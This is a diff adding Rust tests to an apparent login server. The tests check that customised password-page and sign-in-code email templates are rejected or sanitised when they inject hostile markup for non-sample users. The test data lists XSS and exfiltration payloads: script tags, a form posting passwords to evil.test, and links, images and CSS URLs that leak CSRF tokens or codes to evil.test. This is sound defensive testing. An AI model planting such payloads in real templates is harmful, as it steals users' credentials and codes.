@@ -12,7 +12,10 @@ use vestibule_realms::{
     theme::{Theme, ThemeFault},
 };
 use vestibule_storage::jobs::MessageKind;
-use vestibule_templates::{LookBook, Mails, PageContext, Pages, Rendered, samples, views::SignedOutPage};
+use vestibule_templates::{
+    LookBook, Mails, PageContext, Pages, Rendered, samples,
+    views::{Form, PasswordPage, SignedOutPage, Ways},
+};
 use vestibule_usecases::{
     Look, RealmSnapshot,
     ports::{MessageRenderer, Recipient},
@@ -228,4 +231,108 @@ fn a_mail_keeps_its_code_and_its_links_and_brings_no_others() {
         let told = faults(bad);
         assert!(told.iter().any(|fault| fault.detail.contains(word)), "{word}: {told:?}");
     }
+}
+
+/// A page of somebody else than the samples are about.
+fn password_of(pages: &Pages, realm: &RealmSnapshot, name: &str) -> Rendered {
+    let form = Form { action: "/flow/1".to_owned(), csrf: "vcf_x".to_owned(), step: 1 };
+    let view = PasswordPage {
+        form,
+        app: None,
+        username: name.to_owned(),
+        ways: Ways::default(),
+        reason: None,
+        errors: vec![],
+    };
+    let locale = Locale::english();
+    let context = PageContext {
+        realm: Some(realm),
+        locale: &locale,
+        chooser: None,
+        nonce: "n",
+        request_id: "r",
+        stylesheet: None,
+    };
+    pages.render(&view, context).unwrap()
+}
+
+#[test]
+fn a_template_that_is_another_for_others_than_the_samples_is_not_shown_to_them() {
+    const PAGE: &str = include_str!("../../../../themes/default/templates/password.html");
+    let only = |markup: &str| {
+        PAGE.replace(
+            "</h1>",
+            &format!("</h1>{{% if page.username != \"ada@acme.test\" %}}{markup}{{% endif %}}"),
+        )
+    };
+    for evil in [
+        "<script>steal()</script>",
+        "<scr{{ \"\" }}ipt src=\"/a.js\"></script>",
+        "<a href=\"javascript:steal()\">x</a>",
+        "<a href=\"https://evil.test/{{ page.form.csrf }}\">x</a>",
+        "<img src=\"https://evil.test/a.png\">",
+        "<form method=\"post\" action=\"https://evil.test\"><input name=\"password\"></form>",
+        "<p onclick=\"steal()\">x</p>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
+    ] {
+        let look = json!({"templates": {"password.html": only(evil)}});
+        let (pages, realm) = (pages(), realm(look));
+        let Rendered { html, failed } = password_of(&pages, &realm, "bob@acme.test");
+        assert!(failed.is_some(), "{evil}");
+        assert!(
+            !html.contains("evil") && !html.contains("steal") && html.contains("name=\"password\""),
+            "{html}"
+        );
+        assert_eq!(password_of(&pages, &realm, "ada@acme.test").failed, None, "{evil}");
+    }
+    // Without its field a page is not that page.
+    let own = PAGE
+        .replace("{% block main %}", "{% block main %}{% if page.username != \"bob\" %}<h1>x</h1>{% else %}");
+    let own = own.replacen(
+        "{% endblock %}\n{% block script %}",
+        "{% endif %}{% endblock %}\n{% block script %}",
+        1,
+    );
+    let made = password_of(&pages(), &realm(json!({"templates": {"password.html": own}})), "ada");
+    assert!(made.failed.is_some() && made.html.contains("name=\"password\""), "{}", made.html);
+    // What is the same page in other words is shown to everybody.
+    let own = only("<p>Welcome, <b>{{ page.username }}</b>. <a href=\"https://acme.test/help\">Help</a></p>");
+    let made = password_of(&pages(), &realm(json!({"templates": {"password.html": own}})), "bob@acme.test");
+    assert!(made.failed.is_none() && made.html.contains("Welcome, <b>bob@acme.test</b>"), "{}", made.html);
+    // And whoever says it right away is not kept at all.
+    let told =
+        faults(json!({"templates": {"password.html": only("<script nonce=\"{{ nonce }}\"></script>")}}));
+    assert!(told[0].detail.contains("nonce"), "{told:?}");
+}
+
+#[test]
+fn a_mail_that_gives_its_code_away_to_others_than_the_samples_is_not_sent() {
+    const BODY: &str = include_str!("../../../../themes/default/emails/sign_in_code/body.html");
+    const TEXT: &str = include_str!("../../../../themes/default/emails/sign_in_code/text.txt");
+    let only = |markup: &str| format!("{{% if data.code != \"482913\" %}}{markup}{{% endif %}}");
+    let sent = |look: Value| {
+        let (mails, realm) = (Mails::new(&pages()), realm(look));
+        let to = Email::parse("bob@acme.test").unwrap();
+        let to = Recipient { to, name: None, locale: None };
+        let mut data = samples::message_data(MessageKind::SignInCode, &realm.issuer);
+        data.insert("code".to_owned(), json!("731905"));
+        mails.render(&realm, &to, MessageKind::SignInCode, &data, "id".to_owned()).unwrap()
+    };
+    for evil in [
+        "<img src=\"https://evil.test/{{ data.code }}.png\">",
+        "<p style=\"background:url(https://evil.test/{{ data.code }})\">x</p>",
+        "<p>evil.test/{{ data.code }}</p>",
+        "<a href=\"https://evil.test/{{ data.code }}\">x</a>",
+    ] {
+        let own = BODY.replacen("{% block main %}", &format!("{{% block main %}}{}", only(evil)), 1);
+        assert_ne!(own, BODY);
+        let mail = sent(json!({"templates": {"emails/sign_in_code/body.html": own}}));
+        assert!(!mail.html.contains("evil") && mail.html.contains("731905"), "{evil}: {}", mail.html);
+    }
+    let own = format!("{TEXT}{}", only("https://evil.test/{{ data.code }}"));
+    let mail = sent(json!({"templates": {"emails/sign_in_code/text.txt": own}}));
+    assert!(!mail.text.contains("evil") && mail.text.contains("731905"), "{}", mail.text);
+    let own = format!("{TEXT}{}", only("See you, {{ account }}."));
+    let mail = sent(json!({"templates": {"emails/sign_in_code/text.txt": own}}));
+    assert!(mail.text.contains("See you, bob@acme.test."), "{}", mail.text);
 }
